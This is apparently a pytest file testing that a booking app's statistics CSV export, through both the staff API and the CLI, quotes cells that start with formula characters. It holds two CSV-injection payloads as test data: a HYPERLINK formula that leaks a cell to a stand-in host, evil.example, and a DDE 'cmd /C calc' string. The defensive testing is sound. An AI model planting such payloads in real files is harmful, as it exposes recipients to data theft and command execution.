"""Statistics CSV cannot carry spreadsheet formulas (CSV injection): a place named
`=HYPERLINK(…)` comes out quoted, through the staff API and the command line alike."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select, update
from typer.testing import CliRunner

from bot.cli.main import app
from storage.csv_safety import safe_cell
from storage.db import unit_of_work
from storage.models import Booking, Booklet, Place, Slot, Voucher
from tests.e2e.conftest import STAFF_TOKEN, LiveApp
from tests.staff.helpers import NOW, bearer

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'


def _name_a_booked_place(live_app: LiveApp, name: str) -> None:
    """A demo person booked on a demo slot, whose place is then renamed `name`."""
    with unit_of_work(live_app.engine) as session:
        slot = session.scalars(select(Slot).order_by(Slot.id).limit(1)).one()
        person, voucher = session.execute(
            select(Booklet.beneficiary_id, Voucher.id)
            .join(Voucher, Voucher.booklet_id == Booklet.id)
            .order_by(Voucher.id)
            .limit(1)
        ).one()
        session.add(
            Booking(
                slot_id=slot.id or 0,
                beneficiary_id=person,
                voucher_id=voucher,
                created_at=NOW,
                updated_at=NOW,
            )
        )
        session.execute(update(Place).where(Place.id == slot.place_id).values(name=name))
        session.commit()


def _places(text: str) -> set[str]:
    return {row["place"] for row in csv.DictReader(io.StringIO(text)) if row["place"]}


def test_the_http_csv_quotes_a_formula_place_name(live_app: LiveApp) -> None:
    _name_a_booked_place(live_app, EVIL)
    answer = live_app.client.get("/staff/stats.csv", headers=bearer(STAFF_TOKEN))
    assert answer.status_code == 200
    assert "'" + EVIL in _places(answer.text)
    assert not any(cell.startswith("=") for cell in _places(answer.text))


def test_the_command_line_csv_quotes_it_too(
    live_app: LiveApp, database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    _name_a_booked_place(live_app, "@SUM(1+1)*cmd|' /C calc'!A0")
    monkeypatch.setenv("PASSNUM_DATABASE_URL", database_url)
    target = tmp_path / "stats.csv"
    result = CliRunner().invoke(app, ["staff", "stats", "--csv", str(target)])
    assert result.exit_code == 0, result.output
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in _places(target.read_text(encoding="utf-8"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_and_numbers_are_not(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Espace Jean-Jaurès") == "Espace Jean-Jaurès"
    assert safe_cell(-3) == -3
